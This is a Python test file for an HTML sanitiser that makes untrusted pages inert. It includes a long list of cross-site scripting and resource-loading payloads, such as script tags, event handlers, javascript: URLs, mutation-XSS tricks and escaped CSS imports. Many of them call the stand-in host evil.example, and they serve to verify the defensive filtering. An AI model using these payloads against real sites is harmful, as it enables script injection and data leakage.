"""A page that is not trusted is shown, and nothing of it runs, loads, sends or leads away."""

# ruff: noqa: E501  # what is hostile stands on one line
from __future__ import annotations

import re

import pytest
from selectolax.lexbor import LexborHTMLParser

from gossamer.convert.html import inert as module
from gossamer.convert.html.inert import CUT, Original, inert

URL = "http://site.example/folder/page"
EVIL = "http://evil.example"
HOSTILE = [
    "<script>alert(1)</script>",
    f"<script src={EVIL}/x.js></script>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x</a><link rel=stylesheet xlink:href=x></svg>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=alert(1)>'></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    f"<iframe src={EVIL}/></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data={EVIL}/x></object><embed src={EVIL}/x><applet code=x></applet>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    f"<base href={EVIL}/><base target=_top>",
    f"<link rel=preconnect href={EVIL}><link rel=dns-prefetch href={EVIL}><link rel=stylesheet href={EVIL}/x.css>",
    f"<form action={EVIL}/ method=post><input name=q autofocus onfocus=alert(1)><button formaction={EVIL}>go</button></form>",
    f"<img src={EVIL}/x.png srcset='{EVIL}/y 2x' onerror=alert(1) longdesc={EVIL}>",
    f"<picture><source srcset={EVIL}/x><img src={EVIL}/y></picture>",
    f"<video src={EVIL}/v poster={EVIL}/p autoplay><source src={EVIL}/w></video><audio src={EVIL}/a></audio>",
    f"<body background={EVIL}/b onload=alert(1)>",
    f"<table background={EVIL}/t><tr><td background={EVIL}/d>cell</table>",
    f"<a href=javascript:alert(1) ping={EVIL}>x</a><a href='data:text/html,<script>alert(1)</script>' target=_top>y</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a><a href='vbscript:x'>x</a><a href=' javascript:alert(1)'>x</a>",
    f"<style>@import '{EVIL}/c'; body {{ background: url({EVIL}/b) }} </style>",
    f"<p style='background: url(\"{EVIL}/b\")'>styled</p>",
    f"<style>p {{ background: u\\72l({EVIL}/b) }} b {{ background: \\75 \\72\\l({EVIL}/c) }} @\\69mport '{EVIL}/d';</style>",
    "<style></style><img src=x onerror=alert(1)></style>",
    "<textarea></textarea><script>alert(1)</script></textarea>",
    "<title></title><script>alert(1)</script></title>",
    "<xmp></xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
    "<select><template><script>alert(1)</script></template><option>one</select>",
    "<template><img src=x onerror=alert(1)></template>",
    f"<input type=image src={EVIL}/x><button onclick=alert(1)>b</button><details ontoggle=alert(1) open>d</details>",
    f"<frameset><frame src={EVIL}/></frameset>",
    f"<portal src={EVIL}></portal><fencedframe></fencedframe><custom-element onclick=alert(1)>c</custom-element>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
    "<p title='\"><script>alert(1)</script>'>quoted</p>",
]
ELEMENTS = module._SHOWN | {"html", "head", "body", "meta", "title", "style"}
POINTERS = {"href", "src", "charset"}


def shown(html: str | bytes, **changed: object) -> str:
    data = html if isinstance(html, bytes) else html.encode()
    return inert(Original(data, "UTF-8", URL)._replace(**changed), lambda url: f"/cached?url={url}")


def require_harmless(html: str) -> None:
    """As a browser reads it, with scripts and without."""
    for scripting in (True, False):
        for node in LexborHTMLParser(html, scripting=scripting).root.traverse(include_text=False):
            assert node.is_comment_node is False
            assert node.tag in ELEMENTS, node.tag
            assert set(node.attributes) <= module._ATTRIBUTES | POINTERS, node.attributes
            assert (node.attributes.get("href") or "#").startswith(("#", "/cached?url=http"))
            assert (node.attributes.get("src") or "data:image/png;").startswith("data:image/")
            assert node.tag != "meta" or node.attributes == {"charset": "utf-8"}


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_is_left_that_could_run_or_load(hostile: str) -> None:
    for page in (hostile, f"<!doctype html><p>before{hostile}after", f"<table><tr><td>{hostile}", f"<svg><p>{hostile}"):
        html = shown(page)
        require_harmless(html)
        assert not re.search(rf"url\(['\"]?{EVIL}|@import|\\\\[67]", html)


def test_all_of_them_at_once_and_each_in_each() -> None:
    require_harmless(shown("".join(HOSTILE)))
    for one in HOSTILE:
        require_harmless(shown("".join(f"{one[: len(one) // 2]}{other}{one[len(one) // 2 :]}" for other in HOSTILE)))


def test_a_page_looks_as_it_did() -> None:
    page = (
        b"<!doctype html><html lang=de class=dark><head><title>Fisch &amp; Chips</title><style>p > b { color: red }"
        b"</style></head><body bgcolor=white><h1 id=top>Fisch</h1><p class=x style='color: blue'>&lt;gut&gt; <b>viel</b>"
        b"<br><a href='../b?x=1&amp;y=2#z'>mehr</a> <a href='#top'>hinauf</a><img src='data:image/png;base64,AAAA' alt='a"
        b"&quot;b'><pre>\n\n zwei</pre><ul><li>eins<li>zwei</ul><table><tr><td colspan=2>z</table>"
    )
    assert shown(page) == (
        '<!doctype html>\n<html lang="de" class="dark"><head><meta charset="utf-8"><title>Fisch &amp; Chips</title><style>'
        'p > b { color: red }</style></head>\n<body bgcolor="white"><h1 id="top">Fisch</h1><p class="x" '
        'style="color: blue">&lt;gut&gt; <b>viel</b><br><a href="/cached?url=http://site.example/b?x=1&amp;y=2">mehr</a> '
        '<a href="#top">hinauf</a><img src="data:image/png;base64,AAAA" alt="a&quot;b"></p><pre>\n\n zwei</pre><ul><li>'
        'eins</li><li>zwei</li></ul><table><tbody><tr><td colspan="2">z</td></tr></tbody></table></body></html>\n'
    )


def test_links_lead_from_the_base_that_the_page_names() -> None:
    assert 'href="/cached?url=http://other.example/d/x"' in shown("<base href=//other.example/d/><a href=x>x</a>")
    assert 'href="/cached?url=http://site.example/folder/x"' in shown("<base href=mailto:x><a href=x>x</a>")


def test_what_is_only_there_without_scripts_is_shown() -> None:
    assert "<p>words</p>" in shown("<body><noscript><p>words</p></noscript>")


def test_other_encodings_and_xml_are_read_as_they_are_meant() -> None:
    assert "Grüße" in shown("<p>Grüße".encode("latin-1"), encoding="windows-1252")
    assert "<p>seen</p>" in shown("<html><head><script src='x'/></head><body><p>seen</p></body></html>", xml=True)
    require_harmless(shown(b"\xff\xfe\x00<p title=\xc3>\xed\xa0\x80"))
    assert shown("") == '<html><head><meta charset="utf-8"><title></title></head>\n<body></body></html>\n'


def test_a_page_that_is_too_much_is_cut_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    many = "<p>word</p>" * 60_000
    assert CUT in shown(many)
    require_harmless(shown("<div>" * 30_000 + "deep"))
    monkeypatch.setattr(module, "NODES_MOST", 10)
    html = shown("<div><section>" + "<p>word</p>" * 20)
    assert html.endswith(f"<p>word</p></section></div>{CUT}</body></html>\n")
    assert html.count("word") == 4
